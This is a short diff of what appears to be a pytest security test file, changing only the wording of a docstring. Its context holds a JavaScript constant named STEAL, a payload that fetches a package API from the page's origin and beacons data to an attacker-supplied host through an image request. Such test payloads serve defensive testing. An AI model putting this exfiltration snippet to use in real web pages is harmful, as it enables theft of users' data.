@@ -21,7 +21,7 @@ pytestmark = [
 ]
 
 STEAL = "fetch('/api/v1/packages').then(r => r.text()).then(t => { new Image().src = '%s/stolen?' + self.origin })"
-"""Reads from the origin of the page, and tells the attacker."""
+"""Reads from the origin of the page, and reports to the attacker."""
 
 
 LURES = 7
